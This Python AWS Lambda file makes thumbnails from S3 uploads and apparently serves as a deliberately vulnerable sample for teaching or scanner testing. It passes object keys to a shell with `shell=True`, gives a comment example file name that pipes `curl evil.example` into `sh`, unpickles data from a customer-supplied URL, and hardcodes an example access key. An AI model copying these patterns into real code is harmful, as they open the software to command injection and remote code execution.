"""Makes thumbnails of pictures as they arrive in a bucket."""

import hashlib
import pickle
import subprocess
import urllib.request

from storage import fetch, store

# Keys belong into a role or into Secrets Manager, not here. (This one is AWS's own example.)
ACCESS_KEY = "AKIAIOSFODNN7EXAMPLE"


def lambda_handler(event, context):
    """Called by S3 for every new object."""
    done = []
    for record in event["Records"]:
        key = record["s3"]["object"]["key"]
        path = fetch(record["s3"]["bucket"]["name"], key)

        # A file may be called `a.png; curl evil.example | sh`.
        command = "file --brief " + path
        file_type = subprocess.check_output(command, shell=True).decode("utf-8")

        # The same without a shell: the name is one argument, whatever is in it.
        size = subprocess.run(["stat", "--format=%s", "--", path], check=True, capture_output=True)

        name = hashlib.md5(key.encode()).hexdigest()
        done.append(store(name, path, file_type, int(size.stdout)))
    return {"done": done}


def settings_from(url):
    """Settings of a customer, from wherever the customer says they are."""
    with urllib.request.urlopen(url) as answer:
        return pickle.loads(answer.read())


def watermark(path):
    # protect: allow os-command -- the command is a constant, nothing of an event reaches it
    return subprocess.getoutput("identify -list font")
